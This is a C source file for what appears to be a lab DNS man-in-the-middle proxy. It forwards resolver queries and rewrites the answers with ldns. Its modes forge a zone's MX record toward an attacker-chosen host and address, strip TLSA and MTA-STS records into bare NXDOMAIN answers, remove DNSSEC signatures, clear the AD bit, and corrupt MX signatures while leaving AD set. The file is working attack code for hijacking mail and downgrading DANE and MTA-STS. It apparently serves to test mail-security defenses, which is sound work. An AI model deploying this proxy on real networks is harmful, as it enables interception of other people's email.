/*
 * mitm_dns.c - the lab's DNS-rewriting proxy. nftables on the router
 * redirects the resolver's queries (UDP and TCP port 53) here; each query is
 * forwarded to the real name server and its answer rewritten with ldns:
 *   pass-dns       answer unchanged
 *   forge-mx       MX of the zone (-z) answered with the forged exchange (-H),
 *                  which resolves to -A; the attacker cannot sign, so the
 *                  forged answers carry no RRSIG
 *   strip-tlsa     every TLSA answer turned into a bare NXDOMAIN (no denial
 *                  proof, no signatures)
 *   strip-rrsig    every RRSIG removed from every section
 *   strip-mta-sts  every _mta-sts TXT answer turned into a bare NXDOMAIN
 * and, between a stub (the sending MTA) and its validating resolver, where
 * answers carry the resolver's AD bit:
 *   stub-strip-tlsa   every TLSA answer turned into a bare NXDOMAIN with AD
 *                     cleared (the MTA takes the host as unsigned and falls
 *                     back from DANE)
 *   stub-bogus-rrsig  the signature of every RRSIG in an MX answer changed
 *                     (one bit), AD left set: the MTA believes the answer,
 *                     whose signature no longer verifies
 */
#include "mitm.h"

#include <arpa/inet.h>
#include <errno.h>
#include <ldns/ldns.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <strings.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum dns_mode {
	D_PASS,
	D_FORGE_MX,
	D_STRIP_TLSA,
	D_STRIP_RRSIG,
	D_STRIP_STS,
	D_STUB_STRIP_TLSA,
	D_STUB_BOGUS_RRSIG
};

/* What the rewriting needs, parsed once at start. */
struct dns_ctx {
	enum dns_mode mode;
	struct sockaddr_in upstream;
	ldns_rdf *zone;
	ldns_rdf *forge_host;
	struct in_addr forge_addr;
};

#define DNS_MAX 65535

static enum dns_mode parse_mode(const char *m)
{
	if (strcmp(m, "pass-dns") == 0)
		return D_PASS;
	if (strcmp(m, "forge-mx") == 0)
		return D_FORGE_MX;
	if (strcmp(m, "strip-tlsa") == 0)
		return D_STRIP_TLSA;
	if (strcmp(m, "strip-rrsig") == 0)
		return D_STRIP_RRSIG;
	if (strcmp(m, "strip-mta-sts") == 0)
		return D_STRIP_STS;
	if (strcmp(m, "stub-strip-tlsa") == 0)
		return D_STUB_STRIP_TLSA;
	if (strcmp(m, "stub-bogus-rrsig") == 0)
		return D_STUB_BOGUS_RRSIG;
	mitm_fatal("unknown dns mode %s", m);
}

/* Replaces section SEC of P with L (taking it) and fixes the count. */
static void set_section(ldns_pkt *p, ldns_pkt_section sec, ldns_rr_list *l)
{
	ldns_rr_list *old = NULL;

	switch (sec) {
	case LDNS_SECTION_ANSWER:
		old = ldns_pkt_answer(p);
		ldns_pkt_set_answer(p, l);
		break;
	case LDNS_SECTION_AUTHORITY:
		old = ldns_pkt_authority(p);
		ldns_pkt_set_authority(p, l);
		break;
	default:
		old = ldns_pkt_additional(p);
		ldns_pkt_set_additional(p, l);
		break;
	}
	ldns_pkt_set_section_count(p, sec, (uint16_t)ldns_rr_list_rr_count(l));
	ldns_rr_list_deep_free(old);
}

static void clear_sections(ldns_pkt *p)
{
	set_section(p, LDNS_SECTION_ANSWER, ldns_rr_list_new());
	set_section(p, LDNS_SECTION_AUTHORITY, ldns_rr_list_new());
	set_section(p, LDNS_SECTION_ADDITIONAL, ldns_rr_list_new());
}

/* Removes the RRSIGs of section SEC; returns how many went. */
static size_t drop_rrsigs(ldns_pkt *p, ldns_pkt_section sec)
{
	ldns_rr_list *in = ldns_pkt_get_section_clone(p, sec);
	ldns_rr_list *out = ldns_rr_list_new();
	size_t dropped = 0;

	for (size_t i = 0; in && i < ldns_rr_list_rr_count(in); i++) {
		ldns_rr *rr = ldns_rr_list_rr(in, i);

		if (ldns_rr_get_type(rr) == LDNS_RR_TYPE_RRSIG)
			dropped++;
		else
			ldns_rr_list_push_rr(out, ldns_rr_clone(rr));
	}
	ldns_rr_list_deep_free(in);
	set_section(p, sec, out);
	return dropped;
}

static void push_rr(ldns_pkt *p, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

/* Adds the RR written in presentation format to the answer section. */
static void push_rr(ldns_pkt *p, const char *fmt, ...)
{
	char text[512];
	ldns_rr *rr = NULL;
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(text, sizeof(text), fmt, ap);
	va_end(ap);
	if (ldns_rr_new_frm_str(&rr, text, 0, NULL, NULL) != LDNS_STATUS_OK)
		mitm_fatal("bad forged record: %s", text);
	ldns_pkt_push_rr(p, LDNS_SECTION_ANSWER, rr);
}

static bool is_mta_sts(const ldns_rdf *name)
{
	ldns_rdf *first = ldns_dname_label(name, 0);
	char *s = first ? ldns_rdf2str(first) : NULL;
	bool yes = s && strcasecmp(s, "_mta-sts.") == 0;

	free(s);
	ldns_rdf_deep_free(first);
	return yes;
}

/* Turns P into an NXDOMAIN with nothing to prove it. */
static void make_bare_nxdomain(ldns_pkt *p)
{
	ldns_pkt_set_rcode(p, LDNS_RCODE_NXDOMAIN);
	clear_sections(p);
}

/*
 * Changes one bit of the signature of every RRSIG covering TYPE in the
 * answer section of P, in place; returns how many were changed.
 */
static size_t spoil_rrsigs(ldns_pkt *p, ldns_rr_type type)
{
	ldns_rr_list *an = ldns_pkt_answer(p);
	size_t n = 0;

	for (size_t i = 0; an && i < ldns_rr_list_rr_count(an); i++) {
		ldns_rr *rr = ldns_rr_list_rr(an, i);
		ldns_rdf *covered, *sig;

		if (ldns_rr_get_type(rr) != LDNS_RR_TYPE_RRSIG)
			continue;
		covered = ldns_rr_rrsig_typecovered(rr);
		sig = ldns_rr_rrsig_sig(rr);
		if (!covered || !sig || ldns_rdf_size(sig) == 0 ||
		    ldns_rdf2rr_type(covered) != type)
			continue;
		ldns_rdf_data(sig)[ldns_rdf_size(sig) / 2] ^= 0x01;
		n++;
	}
	return n;
}

/*
 * Applies the mode to the answer P. Returns true when P was changed and
 * writes what was done to DID.
 */
static bool rewrite(const struct dns_ctx *c, ldns_pkt *p, char *did, size_t didlen)
{
	ldns_rr_list *q = ldns_pkt_question(p);
	ldns_rr *qrr;
	ldns_rdf *qname;
	ldns_rr_type qtype;
	char *zone, *host, *qs;
	char addr[INET_ADDRSTRLEN];
	size_t n;

	if (!q || ldns_rr_list_rr_count(q) != 1 || !ldns_pkt_qr(p))
		return false;
	qrr = ldns_rr_list_rr(q, 0);
	qname = ldns_rr_owner(qrr);
	qtype = ldns_rr_get_type(qrr);
	qs = ldns_rdf2str(qname);
	did[0] = '\0';
	switch (c->mode) {
	case D_FORGE_MX:
		zone = ldns_rdf2str(c->zone);
		host = ldns_rdf2str(c->forge_host);
		inet_ntop(AF_INET, &c->forge_addr, addr, sizeof(addr));
		if (ldns_dname_compare(qname, c->forge_host) == 0) {
			ldns_pkt_set_rcode(p, LDNS_RCODE_NOERROR);
			ldns_pkt_set_aa(p, true);
			clear_sections(p);
			if (qtype == LDNS_RR_TYPE_A)
				push_rr(p, "%s 300 IN A %s", host, addr);
			snprintf(did, didlen, "answered %s for %s with %s", qs,
				 qtype == LDNS_RR_TYPE_A ? "A" : "another type",
				 qtype == LDNS_RR_TYPE_A ? addr : "NODATA");
		} else if (qtype == LDNS_RR_TYPE_MX && ldns_dname_compare(qname, c->zone) == 0) {
			ldns_pkt_set_rcode(p, LDNS_RCODE_NOERROR);
			clear_sections(p);
			push_rr(p, "%s 300 IN MX 10 %s", zone, host);
			snprintf(did, didlen, "forged MX of %s: 10 %s", qs, host);
		}
		free(zone);
		free(host);
		break;
	case D_STRIP_TLSA:
		if (qtype == LDNS_RR_TYPE_TLSA) {
			make_bare_nxdomain(p);
			snprintf(did, didlen, "stripped TLSA of %s (bare NXDOMAIN)", qs);
		}
		break;
	case D_STRIP_STS:
		if (qtype == LDNS_RR_TYPE_TXT && is_mta_sts(qname)) {
			make_bare_nxdomain(p);
			snprintf(did, didlen, "stripped TXT of %s (bare NXDOMAIN)", qs);
		}
		break;
	case D_STUB_STRIP_TLSA:
		if (qtype == LDNS_RR_TYPE_TLSA) {
			make_bare_nxdomain(p);
			ldns_pkt_set_ad(p, false);
			snprintf(did, didlen, "stripped TLSA of %s (bare NXDOMAIN, AD cleared)",
				 qs);
		}
		break;
	case D_STUB_BOGUS_RRSIG:
		if (qtype == LDNS_RR_TYPE_MX) {
			n = spoil_rrsigs(p, LDNS_RR_TYPE_MX);
			if (n > 0)
				snprintf(did, didlen,
					 "spoiled %zu RRSIGs of the MX of %s, AD=%d kept", n, qs,
					 (int)ldns_pkt_ad(p));
		}
		break;
	case D_STRIP_RRSIG:
		n = drop_rrsigs(p, LDNS_SECTION_ANSWER) + drop_rrsigs(p, LDNS_SECTION_AUTHORITY) +
		    drop_rrsigs(p, LDNS_SECTION_ADDITIONAL);
		if (n > 0)
			snprintf(did, didlen, "dropped %zu RRSIGs from the answer for %s", n, qs);
		break;
	case D_PASS:
		break;
	}
	free(qs);
	return did[0] != '\0';
}

/*
 * Rewrites the DNS message in BUF (LEN bytes, room for CAP) in place.
 * Returns the new length; an unparsable message is left as it is.
 */
static size_t rewrite_wire(const struct dns_ctx *c, uint8_t *buf, size_t len, size_t cap)
{
	ldns_pkt *p = NULL;
	uint8_t *out = NULL;
	size_t olen = 0;
	char did[512];

	if (ldns_wire2pkt(&p, buf, len) != LDNS_STATUS_OK)
		return len;
	if (rewrite(c, p, did, sizeof(did)) && ldns_pkt2wire(&out, p, &olen) == LDNS_STATUS_OK &&
	    olen <= cap) {
		memcpy(buf, out, olen);
		len = olen;
		mitm_log("%s", did);
	}
	free(out);
	ldns_pkt_free(p);
	return len;
}

/* Forwards one UDP query to the upstream and returns the answer's length, or 0. */
static size_t udp_exchange(const struct dns_ctx *c, const uint8_t *q, size_t qlen, uint8_t *a,
			   size_t cap)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct pollfd p = {.fd = fd, .events = POLLIN};
	ssize_t n = -1;

	if (fd < 0)
		return 0;
	if (connect(fd, (const struct sockaddr *)&c->upstream, sizeof(c->upstream)) == 0 &&
	    send(fd, q, qlen, 0) == (ssize_t)qlen && poll(&p, 1, 3000) == 1)
		n = recv(fd, a, cap, 0);
	close(fd);
	return n > 0 ? (size_t)n : 0;
}

static void serve_udp(const struct dns_ctx *c, int ufd)
{
	static uint8_t q[DNS_MAX], a[DNS_MAX];
	struct sockaddr_in from;
	socklen_t flen = sizeof(from);
	ssize_t qlen = recvfrom(ufd, q, sizeof(q), 0, (struct sockaddr *)&from, &flen);
	size_t alen;

	if (qlen <= 0)
		return;
	alen = udp_exchange(c, q, (size_t)qlen, a, sizeof(a));
	if (alen == 0)
		return;
	alen = rewrite_wire(c, a, alen, sizeof(a));
	sendto(ufd, a, alen, 0, (struct sockaddr *)&from, flen);
}

/* Reads exactly LEN bytes; false at EOF or error. */
static bool read_full(int fd, uint8_t *buf, size_t len)
{
	while (len > 0) {
		ssize_t n = read(fd, buf, len);

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return false;
		buf += n;
		len -= (size_t)n;
	}
	return true;
}

/* Reads one length-prefixed DNS message from a TCP stream; returns its length or 0. */
static size_t read_tcp_msg(int fd, uint8_t *buf)
{
	uint8_t l[2];
	size_t len;

	if (!read_full(fd, l, 2))
		return 0;
	len = (size_t)l[0] << 8 | l[1];
	if (len == 0 || !read_full(fd, buf, len))
		return 0;
	return len;
}

static bool write_tcp_msg(int fd, const uint8_t *buf, size_t len)
{
	uint8_t l[2] = {(uint8_t)(len >> 8), (uint8_t)len};

	return mitm_write_all(fd, l, 2) && mitm_write_all(fd, buf, len);
}

/* Serves one TCP client connection in a child process. Never returns. */
static _Noreturn void serve_tcp(const struct dns_ctx *c, int cfd)
{
	static uint8_t q[DNS_MAX], a[DNS_MAX];
	int ufd = mitm_connect(&c->upstream);
	size_t len;

	if (ufd < 0)
		mitm_fatal("cannot reach the upstream over TCP: %s", strerror(errno));
	while ((len = read_tcp_msg(cfd, q)) > 0) {
		if (!write_tcp_msg(ufd, q, len) || (len = read_tcp_msg(ufd, a)) == 0)
			break;
		len = rewrite_wire(c, a, len, sizeof(a));
		if (!write_tcp_msg(cfd, a, len))
			break;
	}
	exit(0);
}

int mitm_dns_run(const struct mitm_opts *o)
{
	struct dns_ctx c = {.mode = parse_mode(o->mode)};
	int ufd, tfd;

	if (!o->have_upstream)
		mitm_fatal("dns needs -u UPSTREAM");
	c.upstream.sin_family = AF_INET;
	c.upstream.sin_port = htons(53);
	c.upstream.sin_addr = o->upstream;
	if (c.mode == D_FORGE_MX) {
		if (!o->zone || !o->forge_host || o->forge_addr.s_addr == 0)
			mitm_fatal("forge-mx needs -z ZONE -H HOST -A ADDR");
		c.zone = ldns_dname_new_frm_str(o->zone);
		c.forge_host = ldns_dname_new_frm_str(o->forge_host);
		if (!c.zone || !c.forge_host)
			mitm_fatal("bad zone or host name");
		c.forge_addr = o->forge_addr;
	}
	ufd = mitm_listen(SOCK_DGRAM, o->listen_port);
	tfd = mitm_listen(SOCK_STREAM, o->listen_port);
	mitm_log("dns %s listening on port %u", o->mode, o->listen_port);
	for (;;) {
		struct pollfd p[2] = {{.fd = ufd, .events = POLLIN}, {.fd = tfd, .events = POLLIN}};

		if (poll(p, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			mitm_fatal("poll: %s", strerror(errno));
		}
		if (p[0].revents & POLLIN)
			serve_udp(&c, ufd);
		if (p[1].revents & POLLIN) {
			int cfd = accept(tfd, NULL, NULL);

			if (cfd < 0)
				continue;
			if (fork() == 0) {
				close(ufd);
				close(tfd);
				serve_tcp(&c, cfd);
			}
			close(cfd);
		}
	}
}
